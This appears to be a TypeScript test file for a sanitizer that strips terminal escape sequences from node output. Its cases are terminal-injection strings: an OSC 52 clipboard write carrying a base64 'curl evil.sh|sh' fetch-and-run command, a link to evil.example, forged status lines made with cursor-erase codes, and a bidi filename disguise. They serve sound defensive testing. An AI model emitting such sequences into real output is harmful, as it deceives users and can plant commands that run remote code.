// Issue 17 (12): node output reached the terminal as-is. The attack strings are the ones terminals
// act on (xterm ctlseqs: OSC 0 title, OSC 52 clipboard, CSI cursor and erase, "\r" overwriting).
import test from 'ava';
import { printable } from '../../../core/terminal-text.ts';

const ESC = '\x1b';
const cases: [string, string, string][] = [
  ['OSC 0 window title, BEL-terminated', `${ESC}]0;pwned${'\x07'}error: disk full`, 'error: disk full'],
  ['OSC 2 title, ST-terminated', `a${ESC}]2;title${ESC}\\b`, 'ab'],
  ['OSC 52 clipboard write', `x${ESC}]52;c;Y3VybCBldmlsLnNofHNo${'\x07'}y`, 'xy'],
  ['OSC 8 hyperlink', `${ESC}]8;;http://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`, 'click'],
  ['CSI cursor up and erase line, then a forged line', `failed${ESC}[1A${ESC}[2K${ESC}[32mnode1 ok${ESC}[0m`, 'failednode1 ok'],
  ['carriage return overwriting', 'permission denied\rnode1 ok         ', 'permission deniednode1 ok         '],
  ['8-bit CSI and OSC', `a\x9b2Jb\x9d0;t\x9cc`, 'abc'],
  ['DCS string', `a${ESC}P1$r0m${ESC}\\b`, 'ab'],
  ['an unterminated OSC eats to the end', `ok${ESC}]0;never ends`, 'ok'],
  ['backspaces, bell, NUL, DEL', 'a\b\b\x07\x00\x7fb', 'ab'],
  ['ESC alone and two-byte escapes (RIS, keypad)', `a${ESC}cb${ESC}=c${ESC}`, 'abc'],
  ['bidi override reordering text', 'ok \u202egnp.exe', 'ok gnp.exe'],
  ['newlines and tabs are kept', 'line 1\n\tline 2\n', 'line 1\n\tline 2\n'],
  ['UTF-8 text is kept', 'grüße ‘quoted’ — 日本', 'grüße ‘quoted’ — 日本'],
  ['removal does not join an ESC with the next bytes', `${ESC}\x00[31mred`, '[31mred'],
];

for (const [title, input, expected] of cases) {
  test(`printable: ${title}`, (t) => {
    const out = printable(input);
    t.is(out, expected);
    t.false(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/.test(out), 'no control character left');
  });
}
